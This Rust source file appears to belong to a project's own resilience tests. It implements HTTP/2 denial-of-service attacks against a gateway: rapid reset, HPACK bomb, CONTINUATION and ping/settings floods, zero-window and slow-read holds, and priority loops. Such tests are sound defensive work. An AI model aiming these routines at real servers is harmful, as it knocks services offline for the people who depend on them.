//! Attacks by frames of HTTP/2.

use std::{io, time::Duration};

use tokio::io::AsyncWriteExt as _;

use super::publishing::HOLD;
use crate::neighbours::{
    attacker::{Attacker, block},
    wire::{self, END_HEADERS, END_STREAM, WINDOW_MAX, frame},
};

/// Requests on one connection: `limits.streams_per_connection`.
const STREAMS: u32 = 100;

/// Frames that are written at once.
const AT_ONCE: usize = 200;

/// The ids of a client's streams.
fn streams() -> impl Iterator<Item = u32> {
    (0..).map(|index| 2 * index + 1)
}

/// Asks for history on a hundred streams.
fn history(me: &Attacker) -> Vec<u8> {
    let asked = block(&me.lines(0, "GET", "events?limit=1000"));
    let asked = |stream| frame(wire::HEADERS, END_HEADERS | END_STREAM, stream, &asked);
    streams().take(STREAMS as usize).flat_map(asked).collect()
}

pub async fn window_of_zero(me: &Attacker) -> io::Result<()> {
    let mut connection = me.http2(0).await?;
    connection.write.write_all(&history(me)).await?;
    me.did(STREAMS as usize);
    // Until the gateway ends it.
    wire::discard(connection.read).await
}

pub async fn unread(me: &Attacker) -> io::Result<()> {
    let connection = me.connect_small().await?;
    let mut connection = wire::Http2::begin(connection, WINDOW_MAX).await?;
    let room = frame(wire::WINDOW_UPDATE, 0, 0, &(WINDOW_MAX - 65_535).to_be_bytes());
    connection.write.write_all(&room).await?;
    connection.write.write_all(&history(me)).await?;
    me.did(STREAMS as usize);
    tokio::time::sleep(HOLD).await;
    Ok(())
}

pub async fn dribble(me: &Attacker) -> io::Result<()> {
    let mut connection = me.http2(1).await?;
    connection.write.write_all(&history(me)).await?;
    let updates: Vec<u8> = streams()
        .take(STREAMS as usize)
        .chain([0])
        .flat_map(|stream| frame(wire::WINDOW_UPDATE, 0, stream, &1_u32.to_be_bytes()))
        .collect();
    connection.flood(|| updates.clone(), || me.did(STREAMS as usize)).await
}

pub async fn bodies_that_never_come(me: &Attacker) -> io::Result<()> {
    let mut connection = me.http2(65_535).await?;
    let mut lines = me.lines(0, "POST", "events");
    lines.push(("content-type", "application/json".to_owned()));
    let asked = block(&lines);
    for stream in streams().take(STREAMS as usize) {
        connection.write.write_all(&frame(wire::HEADERS, END_HEADERS, stream, &asked)).await?;
        connection.write.write_all(&frame(wire::DATA, 0, stream, b"[")).await?;
        me.did(1);
    }
    // Refused requests are asked again after a while.
    let _ = tokio::time::timeout(Duration::from_secs(3), wire::discard(connection.read)).await;
    Ok(())
}

/// Sends what `each` makes of the id of a stream, for one stream after the other.
async fn by_stream(me: &Attacker, at_once: usize, each: impl Fn(u32) -> Vec<u8>) -> io::Result<()> {
    let connection = me.http2(65_535).await?;
    let mut ids = streams();
    let flood = || ids.by_ref().take(at_once).flat_map(&each).collect::<Vec<u8>>();
    connection.flood(flood, || me.did(at_once)).await
}

/// Sends a request, then the same frames again and again.
async fn repeated(me: &Attacker, request: Vec<u8>, frames: Vec<u8>, count: usize) -> io::Result<()> {
    let mut connection = me.http2(65_535).await?;
    connection.write.write_all(&request).await?;
    connection.flood(|| frames.clone(), || me.did(count)).await
}

fn stream_request(me: &Attacker) -> Vec<u8> {
    block(&me.lines(0, "GET", "stream"))
}

pub async fn rapid_reset(me: &Attacker) -> io::Result<()> {
    let asked = stream_request(me);
    by_stream(me, AT_ONCE, |stream| {
        let mut frames = frame(wire::HEADERS, END_HEADERS | END_STREAM, stream, &asked);
        frames.extend(frame(wire::RST_STREAM, 0, stream, &wire::CANCEL.to_be_bytes()));
        frames
    })
    .await
}

pub async fn provoked_resets(me: &Attacker) -> io::Result<()> {
    let asked = stream_request(me);
    by_stream(me, AT_ONCE, |stream| {
        let mut frames = frame(wire::HEADERS, END_HEADERS | END_STREAM, stream, &asked);
        frames.extend(frame(wire::WINDOW_UPDATE, 0, stream, &WINDOW_MAX.to_be_bytes()));
        frames
    })
    .await
}

pub async fn hpack_bomb(me: &Attacker) -> io::Result<()> {
    // The table has 4,096 bytes, 32 of which an entry takes for itself.
    let bomb = [stream_request(me), wire::bomb(&"v".repeat(4000), 10_000)].concat();
    // One ends the connection.
    by_stream(me, 1, |stream| frame(wire::HEADERS, END_HEADERS | END_STREAM, stream, &bomb)).await
}

pub async fn empty_headers(me: &Attacker) -> io::Result<()> {
    let mut lines = me.lines(0, "GET", "cursor");
    lines.resize(lines.len() + 1000, ("", String::new()));
    let asked = block(&lines);
    by_stream(me, AT_ONCE, |stream| frame(wire::HEADERS, END_HEADERS | END_STREAM, stream, &asked)).await
}

pub async fn continuation(me: &Attacker) -> io::Result<()> {
    let request = frame(wire::HEADERS, END_STREAM, 1, &stream_request(me));
    let more = frame(wire::CONTINUATION, 0, 1, &wire::block(&[("x", "y")])).repeat(AT_ONCE);
    repeated(me, request, more, AT_ONCE).await
}

pub async fn empty_data(me: &Attacker) -> io::Result<()> {
    let mut lines = me.lines(0, "POST", "events");
    lines.push(("content-type", "application/json".to_owned()));
    let request = frame(wire::HEADERS, END_HEADERS, 1, &block(&lines));
    repeated(me, request, frame(wire::DATA, 0, 1, &[]).repeat(AT_ONCE), AT_ONCE).await
}

/// A stream that is open, so that the connection is not an idle one.
fn open_stream(me: &Attacker) -> Vec<u8> {
    frame(wire::HEADERS, END_HEADERS | END_STREAM, 1, &stream_request(me))
}

pub async fn pings(me: &Attacker) -> io::Result<()> {
    repeated(me, open_stream(me), frame(wire::PING, 0, 0, &[0; 8]).repeat(AT_ONCE), AT_ONCE).await
}

pub async fn settings(me: &Attacker) -> io::Result<()> {
    repeated(me, open_stream(me), frame(wire::SETTINGS, 0, 0, &[]).repeat(AT_ONCE), AT_ONCE).await
}

pub async fn priority(me: &Attacker) -> io::Result<()> {
    // Each stream depends on the one after it, then the one before it (RFC 7540, section 6.3).
    let frames: Vec<u8> = (0..AT_ONCE as u32)
        .flat_map(|index| {
            let (stream, parent) = (2 * (index % 50) + 3, 2 * ((index + index / 50) % 50) + 5);
            frame(wire::PRIORITY, 0, stream, &[&parent.to_be_bytes()[..], &[255]].concat())
        })
        .collect();
    repeated(me, open_stream(me), frames, AT_ONCE).await
}
